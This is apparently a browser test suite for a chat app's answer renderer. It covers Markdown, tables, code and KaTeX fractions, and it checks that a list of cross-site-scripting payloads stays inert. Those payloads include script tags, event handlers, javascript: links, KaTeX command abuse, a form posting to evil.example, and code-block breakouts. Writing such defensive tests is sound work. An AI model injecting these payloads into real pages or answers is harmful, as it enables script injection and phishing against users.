/** What a model writes, drawn: Markdown, tables, code, formulas – and text that means harm. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { answered, ask, at, close, Host, launch, lastAnswer, open, picture } from "../lib/page.mjs";
import { answerWith, wholeAnswer } from "../lib/script.mjs";

let host, browser;
before(async () => {
  host = await Host.start({ args: ["--scripted"] });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await host?.stop();
});

/** The drawn answer to a question that is answered with `text`. */
async function drawn(page, text) {
  await answerWith(page, wholeAnswer(text));
  await ask(page, "Show me");
  await answered(page);
  return lastAnswer(page).getByTestId("answer");
}

test("paragraphs, lists, tables and code", async () => {
  const page = await open(browser, host);
  const text = "# A title\n\nSome **bold** and *soft* words.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```\n";
  const answer = await drawn(page, text);
  assert.equal(await answer.locator("h2").textContent(), "A title");
  assert.equal(await answer.locator("strong").textContent(), "bold");
  assert.equal(await answer.locator("ol > li").count(), 2);
  assert.equal(await answer.locator("table td").count(), 2);
  assert.equal((await answer.locator("pre code").textContent()).trim(), "print(1 < 2)");
  await picture(page, "markdown");
  await close(page);
});

test("a fraction is as high as a fraction, in KaTeX's own fonts", async () => {
  const page = await open(browser, host);
  const answer = await drawn(page, "The sum is $\\frac{1}{4} + \\frac{2}{4} = \\frac{3}{4}$.\n\n$$\\frac{27}{35}$$\n");
  await answer.locator(".katex .mfrac").nth(3).waitFor();
  const heights = await answer.evaluate((element) => {
    const boxes = (fraction) => [...fraction.querySelectorAll(".mord")].filter((part) => part.childElementCount === 0).map((part) => part.getBoundingClientRect());
    const height = (fraction) => Math.max(...boxes(fraction).map((box) => box.bottom)) - Math.min(...boxes(fraction).map((box) => box.top));
    return {
      inline: height(element.querySelector("p .mfrac")),
      display: height(element.querySelector(".squared .mfrac")),
      line: element.querySelector("p .katex .mrel").getBoundingClientRect().height,
    };
  });
  assert.ok(heights.inline > 1.2 * heights.line && heights.display > 1.5 * heights.line, JSON.stringify(heights));
  await page.waitForFunction(() => [...document.fonts].some((font) => font.family.includes("KaTeX_Main") && font.status === "loaded"));
  await picture(page, "fractions");
  await close(page);
});

const HOSTILE = [
  ["a script", "<script>window.harmed = true</script>"],
  ["a handler", '<img src=x onerror="window.harmed = true">'],
  ["a handler in SVG", '<svg onload="window.harmed = true"><circle r="1"/></svg>'],
  ["a frame", '<iframe srcdoc="<script>parent.harmed = true</script>"></iframe>'],
  ["a link that is code", "[press](javascript:window.harmed=true) <a href='javascript:window.harmed=true'>press</a>"],
  ["a remote picture", "![x](https://evil.example/x.png) <img src='https://evil.example/y.png'>"],
  ["a form", '<form action="https://evil.example/"><input name="key"><button>Send</button></form>'],
  ["a style sheet", "<style>body{display:none}</style><p style='position:fixed;inset:0'>over all</p>"],
  ["a formula that is code", "$\\href{javascript:window.harmed=true}{x}$ $\\htmlClass{a}{b}$ $\\includegraphics{https://evil.example/z.png}$"],
  ["a formula without end", `$${"{".repeat(2000)}x$`],
  ["a formula that defines itself", "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$"],
  ["a code block that leaves its frame", "```html\"><script>window.harmed=true</script>\n</code></pre><script>window.harmed=true</script>\n```"],
  ["deep nesting", `${"> ".repeat(300)}deep`],
  ["an element of our own name", '<div id="app">x</div><div data-testid="stop" id="content">y</div>'],
];

test("hostile text is only text", async (t) => {
  const page = await open(browser, host);
  for (const [name, text] of HOSTILE) {
    await t.test(name, async () => {
      await at(page, "new-conversation").click();
      const answer = await drawn(page, `before\n\n${text}\n\nafter`);
      assert.match(await answer.textContent(), /before[\s\S]*after/);
      const found = await answer.evaluate((element) => ({
        active: element.querySelectorAll("script, iframe, object, embed, form, input, style, link, meta, a[href], img, svg:not(.katex svg):not(.icon)").length,
        handlers: [...element.querySelectorAll("*")].filter((child) => [...child.attributes].some(({ name }) => name.startsWith("on"))).length,
        ids: element.querySelectorAll("#app, #content, [data-testid]").length,
        covering: [...element.querySelectorAll("*")].filter((child) => ["fixed", "absolute"].includes(getComputedStyle(child).position) && child.getBoundingClientRect().height > 2000).length,
        harmed: window.harmed === true,
      }));
      assert.deepEqual(found, { active: 0, handlers: 0, ids: 0, covering: 0, harmed: false });
      assert.ok(await at(page, "composer-input").isVisible());
    });
  }
  await close(page);
});

test("what the student writes is plain text", async () => {
  const page = await open(browser, host);
  await answerWith(page, wholeAnswer("Good."));
  const text = "<b>bold</b> **stars** $x^2$ <script>window.harmed = true</script>";
  await ask(page, text);
  await answered(page);
  assert.equal(await at(page, "student-turn").locator("p").first().textContent(), text);
  assert.equal(await at(page, "student-turn").locator("b, strong, .katex, script").count(), 0);
  await close(page);
});
